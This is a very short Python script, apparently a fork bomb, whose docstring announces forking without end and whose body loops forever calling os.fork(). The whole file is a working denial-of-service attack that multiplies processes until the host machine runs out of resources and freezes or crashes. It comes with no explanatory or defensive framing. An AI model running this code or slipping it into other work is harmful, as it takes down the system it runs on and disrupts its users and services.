"""Forks without end, every process of it."""

import os

while True:
    os.fork()
